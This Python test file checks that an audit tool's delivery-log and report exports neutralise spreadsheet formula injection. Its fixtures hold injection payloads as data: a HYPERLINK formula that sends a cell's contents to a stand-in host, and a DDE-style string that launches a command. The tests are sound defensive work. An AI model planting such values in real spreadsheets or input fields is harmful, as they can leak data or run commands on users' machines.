"""Spreadsheet formula injection in the auditor's files: names, group names and gateway error
texts come from outside, so the delivery log export (.csv/.xlsx) and the report workbook write
text that a spreadsheet would run as a formula with a leading ``'``, and .xlsx text cells are
never formulas. The audit trail export is JSON lines, not a spreadsheet: it keeps every value
exactly (its hashes depend on it)."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from broadcast.audit import delivery_log as dl
from broadcast.audit.report import build
from broadcast.audit.report_files import write_xlsx
from broadcast.audit.trail import export, note, verify_file
from broadcast.db.engine import transaction
from tests.helpers.files import read_csv
from tests.helpers.rows import insert_sent_message

EVIL_NAME = "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"
EVIL_GROUP = "@SUM(1+1)"
EVIL_ERROR = "-cmd|' /C calc'!A0"


@pytest.fixture
def sent(ws):
    at = datetime(2026, 11, 25, 0, 30, tzinfo=UTC)
    with ws.engine.begin() as conn:
        insert_sent_message(conn, at, [
            dict(phone="+8613805141234", name=EVIL_NAME, group_name=EVIL_GROUP, status="failed", gateway="+http",
                 sent_at=None, error_code=EVIL_ERROR, error_text="\t=1+1"),
            dict(phone="+8613905141234", name="张三", group_name="青石村党支部", status="delivered",
                 queued_at=at + timedelta(seconds=1)),
        ])
    return ws


def _xlsx(path) -> dict[str, list[list[object]]]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    try:
        out = {}
        for sheet in wb.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
            out[sheet.title] = [[c.value for c in row] for row in sheet.iter_rows()]
        return out
    finally:
        wb.close()


def _first(rows: list[list[object]]) -> dict[str, object]:
    return dict(zip(rows[0], rows[1]))


def test_delivery_log_csv_neutralises_formulas(sent, tmp_path) -> None:
    out = tmp_path / "log.csv"
    assert dl.export(sent, dl.LogFilter(), out, unmasked=True) == 2
    row = _first(read_csv(out, "utf-8-sig"))
    assert (row["name"], row["group"], row["gateway"]) == ("'" + EVIL_NAME, "'" + EVIL_GROUP, "'+http")
    assert (row["error_code"], row["error_text"]) == ("'" + EVIL_ERROR, "'\t=1+1")
    assert row["phone"] == "+8613805141234"  # sign and digits only: no formula, left as it is


def test_delivery_log_xlsx_neutralises_formulas(sent, tmp_path) -> None:
    out = tmp_path / "log.xlsx"
    dl.export(sent, dl.LogFilter(), out)
    row = _first(_xlsx(out)["deliveries"])
    assert (row["name"], row["group"], row["error_code"]) == ("'" + EVIL_NAME, "'" + EVIL_GROUP, "'" + EVIL_ERROR)
    assert row["phone"] == "138****1234"


def test_report_xlsx_neutralises_formulas(sent, tmp_path) -> None:
    out = tmp_path / "report.xlsx"
    write_xlsx(build(sent, by="group"), out)
    sheets = _xlsx(out)
    assert sorted(r[0] for r in sheets["by group"][1:]) == sorted(["'" + EVIL_GROUP, "青石村党支部"])
    assert sheets["failures"][1] == ["'" + EVIL_ERROR, 1]
    write_xlsx(build(sent, by="gateway"), out)
    assert sorted(r[0] for r in _xlsx(out)["by gateway"][1:]) == ["'+http", "simulator"]


def test_audit_export_is_json_lines_and_keeps_values_exactly(ws, tmp_path) -> None:
    with transaction(ws.engine, write=True) as conn:
        note(conn, ws.operator, "member.add", "member:138****1234", name=EVIL_NAME, title="=1+1")
    out = tmp_path / "audit.jsonl"
    n, head = export(ws.engine, out)
    details = json.loads(out.read_text(encoding="utf-8").splitlines()[-1])["details"]
    assert details == {"name": EVIL_NAME, "title": "=1+1"}
    assert verify_file(out, head).ok and n >= 1
